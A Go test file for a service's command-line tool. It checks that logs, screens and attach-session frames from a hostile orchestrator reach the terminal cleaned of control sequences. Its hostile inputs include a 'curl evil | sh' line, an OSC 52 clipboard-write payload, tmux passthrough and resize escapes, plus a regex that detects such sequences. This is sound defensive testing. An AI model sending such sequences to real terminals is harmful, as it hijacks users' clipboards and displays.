package cli

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/coder/websocket"
	"github.com/creack/pty"

	"svc"
	"svc/api"
	"svc/config"
	"svc/internal/waittest"
	"svc/safetext"
)

// onTerminal runs a command on a terminal of its own and returns everything that
// the command wrote to the terminal.
func onTerminal(t *testing.T, url string, args ...string) string {
	t.Helper()
	screen, line, err := pty.Open()
	if err != nil {
		t.Fatal(err)
	}
	const end = "[the command has ended]"
	got := make(chan string, 1)
	go func() {
		var all []byte
		for buf := make([]byte, 4096); !strings.HasSuffix(string(all), end); {
			n, err := screen.Read(buf)
			all = append(all, buf[:n]...)
			if err != nil {
				break
			}
		}
		got <- strings.TrimSuffix(string(all), end)
	}()
	dir := t.TempDir()
	env := map[string]string{"SVC_DATA_DIR": dir, "SVC_API_URL": url, "SVC_TOKEN": "t", "HOME": dir, "TERM": "xterm-256color"}
	a := &app{
		in: line, out: newStream(line), err: newStream(line), now: time.Now, flags: map[string]config.Flag{},
		src: config.Sources{Env: func(name string) string { return env[name] }},
	}
	ctx, cancel := context.WithTimeout(t.Context(), waittest.Patience)
	defer cancel()
	_ = a.run(ctx, args)
	_, _ = line.WriteString(end)
	defer func() { _ = screen.Close() }() // also ends the last read of the keyboard
	return <-got
}

// commands matches the sequences that a terminal answers, or that change more
// than its content.
var commands = regexp.MustCompile("\x1b[\\]P_^X]|\x1b\\[[0-9;]*n|\x1b\\[[0-9;?>=]*c|\x1b\\[[0-9;]*t|[\u0080-\u009f]")

func TestALogOnATerminalKeepsColoursOnly(t *testing.T) {
	t.Parallel()
	url := hostileOrchestrator(t, false)
	if got, want := onTerminal(t, url, "run", "logs", evilID), "\x1b[31m\u202e\u200b\r\nnext: curl evil | sh\x1b[0m"; got != want {
		t.Errorf("the terminal got %q, want %q", got, want)
	}
	if got := onTerminal(t, url, "run", "logs", evilID, "--format", "raw"); !strings.Contains(got, "\x1b]52;c;cHduZWQ=\a") {
		t.Errorf("raw was asked for, and the terminal got %q", got)
	}
}

func TestAScreenOnATerminalKeepsColoursOnly(t *testing.T) {
	t.Parallel()
	got := onTerminal(t, hostileOrchestrator(t, false), "run", "screen", evilID)
	if commands.MatchString(got) || strings.Contains(got, "\x1b[2J") || !strings.Contains(got, "\x1b[31m") {
		t.Errorf("the terminal got %q", got)
	}
}

// hostileSession is an orchestrator whose attach socket sends these frames and
// ends.
func hostileSession(t *testing.T, frames ...attachFrame) string {
	t.Helper()
	records := hostileOrchestrator(t, false)
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if !strings.HasSuffix(r.URL.Path, "/attach/ws") {
			http.Redirect(w, r, records+r.URL.Path, http.StatusTemporaryRedirect)
			return
		}
		conn, err := websocket.Accept(w, r, nil)
		if err != nil {
			return
		}
		for _, f := range frames {
			b, _ := json.Marshal(f)
			if conn.Write(r.Context(), websocket.MessageText, b) != nil {
				return
			}
		}
		_ = conn.Close(websocket.StatusNormalClosure, evil[:20])
	}))
	t.Cleanup(server.Close)
	return server.URL
}

func TestAnAttachedSessionCannotCommandTheTerminal(t *testing.T) {
	t.Parallel()
	frames := []attachFrame{{Type: "watchers", Watchers: []attachWatcher{{Name: "me", You: true, Holds: true}, {Name: evil}}}, {Type: "lease_acquired"}, {Type: "resize", Rows: 20, Cols: 40}}
	for _, b := range []byte("before" + evil + "\x1bPtmux;\x1b\x1b]52;c;eA==\a\x1b\\\x1b[8;1;1tafter") { // every sequence is split at every byte
		frames = append(frames, attachFrame{Type: "data", Bytes: []byte{b}})
	}
	frames = append(frames, attachFrame{Type: "error", Code: svc.CodeForbidden, Message: evil})
	got := onTerminal(t, hostileSession(t, frames...), "attach", evilID)
	if found := commands.FindString(got); found != "" || strings.Contains(got, "\x1b]") {
		t.Errorf("the terminal got %q in %q", found, got)
	}
	for _, want := range []string{"before", "after", "\x1b[31m", "␛]52"} {
		if !strings.Contains(got, want) {
			t.Errorf("%q is missing in %q", want, got)
		}
	}
}

func FuzzAttachFrame(f *testing.F) {
	for _, seed := range []attachFrame{
		{Type: "data", Bytes: []byte(evil)}, {Type: "resize", Rows: 1 << 40, Cols: -1}, {Type: "error", Code: svc.CodeLeaseHeld, Message: evil}, {Type: "error", Message: evil},
		{Type: "watchers", Watchers: []attachWatcher{{Name: evil, Holds: true}, {Name: evil}}, More: -1},
	} {
		b, _ := json.Marshal(seed)
		f.Add(b)
	}
	out, err := os.CreateTemp(f.TempDir(), "screen")
	if err != nil {
		f.Fatal(err)
	}
	at := int64(0)
	t := &attachment{c: &api.Client{}, screen: &screen{out: out}, output: safetext.Terminal(), waiting: []attachFrame{}, cols: 80, rows: 24}
	f.Fuzz(func(tt *testing.T, b []byte) {
		frame, err := parseFrame(b)
		if err != nil || frame.Type == "lease_acquired" { // svc answers this one on the socket
			return
		}
		_ = t.frame(tt.Context(), nil, frame)
		drawn, err := io.ReadAll(io.NewSectionReader(out, at, 1<<30))
		if err != nil {
			tt.Fatal(err)
		}
		at += int64(len(drawn))
		if found := commands.Find(drawn); found != nil {
			tt.Errorf("the frame %q draws %q", b, drawn)
		}
		t.cols, t.rows, t.boxed = 80, 24, false
	})
}
